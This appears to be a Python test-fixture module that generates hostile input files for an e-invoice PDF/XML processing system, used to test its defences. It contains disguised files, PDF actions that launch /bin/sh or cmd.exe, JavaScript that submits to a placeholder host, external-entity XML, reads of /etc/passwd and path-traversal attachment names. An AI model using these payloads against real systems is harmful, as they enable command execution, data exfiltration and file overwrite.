"""Files that are not what they look like, files that are locked, and files that want something done."""

import gzip
import io
import random
import zipfile
from functools import partial

import pikepdf
from PIL import Image

from hostile.bombs import CII_HEAD
from hostile.case import CALL, TEXT, Case, fixture, page, stream

TEXT_INVOICE = partial(fixture, "text-german-approved/invoice.pdf")
HYBRID = partial(fixture, "hybrid-approved/invoice.pdf")
XML_INVOICE = partial(fixture, "xml-cii-approved/invoice.xml")


def archive(inner: bytes = b"", padding: int = 0) -> bytes:
    """A ZIP archive with one file in it."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as made:
        made.writestr(zipfile.ZipInfo("a.txt", (2026, 1, 1, 0, 0, 0)), b"x" * padding + inner)
    return target.getvalue()


def noise(count: int) -> bytes:
    """Bytes without any order."""
    return random.Random(7).randbytes(count)  # noqa: S311 (seeded, so that each run tries the same)


def commented_photo() -> bytes:
    """A JPEG that has the signature of a PDF in its comment."""
    target = io.BytesIO()
    Image.new("L", (200, 100), 255).save(target, "JPEG", comment=b"%PDF-1.7 %%EOF")
    return target.getvalue()


def saved(encryption: pikepdf.Encryption) -> bytes:
    """A sample invoice, locked."""
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(TEXT_INVOICE())) as document:
        document.save(target, encryption=encryption, deterministic_id=False, static_id=True)
    return target.getvalue()


def locked(revision: int, user: str) -> bytes:
    """A sample invoice with an owner's password, and this user's password."""
    aes = revision >= 4
    return saved(pikepdf.Encryption(owner="owner", user=user, R=revision, aes=aes, metadata=revision >= 4))  # type: ignore[arg-type]


def lock(entries: bytes) -> bytes:
    """A page that says it is encrypted in this way."""
    return page().replace(b"/Root 1 0 R", b"/Root 1 0 R /ID [<00> <00>] /Encrypt << " + entries + b" >>")


def attached(*files: tuple[bytes, bytes], base: bytes | None = None) -> bytes:
    """A sample invoice with these files attached: name and content."""
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(TEXT_INVOICE() if base is None else base)) as document:
        specs = []
        for name, content in files:
            file = document.make_stream(content, Type=pikepdf.Name.EmbeddedFile)
            entries = {"/Type": pikepdf.Name.Filespec, "/F": pikepdf.String(name), "/AFRelationship": pikepdf.Name.Data}
            specs.append(document.make_indirect(pikepdf.Dictionary(entries | {"/EF": pikepdf.Dictionary(F=file)})))
        pairs = [part for n, spec in enumerate(specs) for part in (pikepdf.String(f"{n}"), spec)]
        document.Root.Names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array(pairs)))
        document.Root.AF = pikepdf.Array(specs)
        document.save(target, static_id=True)
    return target.getvalue()


def other_xml() -> bytes:
    """The sample e-invoice with ten times the quantity and the amounts."""
    return (
        XML_INVOICE()
        .replace(b">25<", b">250<")
        .replace(b">538.75<", b">5387.50<")
        .replace(b">F2648042<", b">F2648043<")
    )


def acting(action: bytes) -> bytes:
    """A sample invoice that wants this done when it is opened, when it is shown, and by a click."""
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(TEXT_INVOICE())) as document:
        wanted = document.make_indirect(pikepdf.Object.parse(action))
        document.Root.OpenAction = wanted
        document.Root.AA = pikepdf.Dictionary(WC=wanted, WS=wanted, DC=wanted)
        document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", wanted]))
        shown = document.pages[0]
        shown.obj.AA = pikepdf.Dictionary(O=wanted)
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=wanted)
        shown.obj.Annots = pikepdf.Array([document.make_indirect(note)])
        document.save(target, static_id=True)
    return target.getvalue()


def external_stream() -> bytes:
    """A page whose contents, picture and font lie elsewhere."""
    away = b"/F << /FS /URL /F (" + CALL + b"x) >> /FFilter /FlateDecode"
    more = {
        4: stream(TEXT + b" /X Do", away),
        6: stream(
            b"",
            b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 " + away,
        ),
        7: stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (" + CALL + b"y.pdf) /Page 0 >>"),
    }
    return page(resources=b"/XObject << /X 6 0 R /Y 7 0 R >>", more=more)


def local_stream() -> bytes:
    """A page whose contents are a file of this machine."""
    return page(more={4: stream(b"", b"/F (/etc/passwd)")})


def xfa() -> bytes:
    """A form in XML with an external entity."""
    xml = (
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "'
        + CALL
        + b'e">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;</xdp:xdp>'
    )
    return page(catalogue=b"/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true", more={6: stream(xml)})


PLAIN = (
    (
        "javascript",
        b"<< /S /JavaScript /JS (app.alert\\(1\\); while\\(true\\){}; this.submitForm\\('" + CALL + b"'\\)) >>",
    ),
    ("launch", b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
    ("address", b"<< /S /URI /URI (" + CALL + b"u) >>"),
    ("elsewhere", b"<< /S /GoToR /F << /FS /URL /F (" + CALL + b"r.pdf) >> /D [0 /Fit] /NewWindow true >>"),
    ("submit", b"<< /S /SubmitForm /F << /FS /URL /F (" + CALL + b"s) >> /Flags 32 >>"),
    ("import", b"<< /S /ImportData /F (/etc/passwd) >>"),
    (
        "chain",
        b"<< /S /Named /N /Print /Next << /S /Launch /F (/bin/sh) /Next << /S /URI /URI (" + CALL + b") >> >> >>",
    ),
)

CASES = (
    Case("disguised-zip", lambda: archive(b"Rechnung")),
    Case("disguised-zip-behind", lambda: TEXT_INVOICE() + archive(padding=9000)),
    Case("disguised-zip-before", lambda: archive(padding=200) + TEXT_INVOICE()),
    Case("disguised-html", lambda: b"<!DOCTYPE html><html><body><script>1</script>Rechnung</body></html>"),
    Case("disguised-html-commented", lambda: b"<!-- x --><html><body>Rechnung</body></html>"),
    Case("disguised-svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><image href="' + CALL + b'"/></svg>', called="a.xml"),
    Case("disguised-gzip", lambda: gzip.compress(TEXT_INVOICE(), mtime=0)),
    Case("disguised-program", lambda: b"\x7fELF" + noise(5000)),
    Case("disguised-script", lambda: b"#!/bin/sh\necho %PDF-1.7\n" + b"rm -rf x\n" * 200),
    Case("disguised-postscript", lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\nshowpage\n"),
    Case("disguised-gif", lambda: b"GIF89a" + noise(500)),
    Case("disguised-noise", partial(noise, 200_000)),
    Case("disguised-noise-pdf", lambda: b"%PDF-1.7\n" + noise(2_000_000) + b"\n%%EOF"),
    Case("disguised-noise-xml", lambda: b"<?xml" + noise(100_000), called="a.xml"),
    Case("disguised-noise-tiff", lambda: b"II*\x00" + noise(500_000), called="a.tif"),
    Case("disguised-noise-png", lambda: b"\x89PNG\r\n\x1a\n" + noise(500_000), called="a.png"),
    Case("disguised-noise-webp", lambda: b"RIFF\x00\x00\x10\x00WEBP" + noise(500_000), called="a.webp"),
    Case("disguised-noise-heic", lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + noise(500_000), called="a.heic"),
    Case("disguised-xml-as-pdf", XML_INVOICE, like=XML_INVOICE),
    Case("disguised-pdf-as-xml", TEXT_INVOICE, like=TEXT_INVOICE, called="invoice.xml"),
    Case("disguised-photo-as-pdf", commented_photo),
    Case("disguised-head-only", lambda: b"%PDF-1.7\n%%EOF"),
    Case("disguised-xml-in-pdf-head", lambda: b"%PDF-1.7\n" + XML_INVOICE() + b"\nstartxref\n0\n%%EOF"),
    Case("disguised-empty", lambda: b""),
    Case("disguised-blanks", lambda: b" \r\n\t\x00" * 1_000_000),
    Case("disguised-too-long", lambda: b"%PDF-1.7" + bytes(30_000_001)),
    Case("locked-rc4-40", partial(locked, 2, "secret")),
    Case("locked-rc4-128", partial(locked, 3, "secret")),
    Case("locked-aes-128", partial(locked, 4, "secret")),
    Case("locked-aes-256", partial(locked, 6, "secret")),
    Case("locked-nonsense", partial(lock, b"/Filter /Standard /V 99 /R 99 /O () /U () /P 0")),
    Case("locked-certificate", partial(lock, b"/Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s4 /V 2 /R 2 /Recipients [<00>]")),
    Case("locked-cycle", partial(lock, b"/Filter /Standard /V 4 /R 4 /CF << /StdCF 1 0 R >> /StmF /StdCF /O <00> /U <00> /P -1")),
    *(Case(f"active-{name}", partial(acting, action), like=TEXT_INVOICE) for name, action in PLAIN),
    Case("active-external-stream", external_stream),
    Case("active-local-stream", local_stream),
    Case("active-form", xfa),
    Case("active-program-attached", lambda: attached((b"../../run.exe", b"MZ" + noise(5000))), like=TEXT_INVOICE),
    Case("einvoices-two", lambda: attached((b"factur-x.xml", XML_INVOICE()), (b"factur-x.xml", other_xml()))),
    Case("einvoices-two-turned", lambda: attached((b"factur-x.xml", other_xml()), (b"factur-x.xml", XML_INVOICE()))),
    Case("einvoice-differs", lambda: attached((b"factur-x.xml", other_xml()))),
    Case("einvoice-declares", lambda: attached((b"factur-x.xml", XML_INVOICE().replace(b"<rsm:Cross", b"<!DOCTYPE x [<!ENTITY a SYSTEM '" + CALL + b"'>]><rsm:Cross", 1)))),
    Case("einvoice-cut", lambda: attached((b"factur-x.xml", XML_INVOICE()[:4000]))),
    Case("einvoice-long", lambda: attached((b"factur-x.xml", CII_HEAD + b" " * 25_000_000))),
    Case("einvoice-name", lambda: attached((b"../../../etc/cron.d/factur-x.xml", XML_INVOICE()))),
    Case("einvoice-in-pdf", lambda: attached((b"inner.pdf", HYBRID())), like=TEXT_INVOICE),
)  # fmt: skip
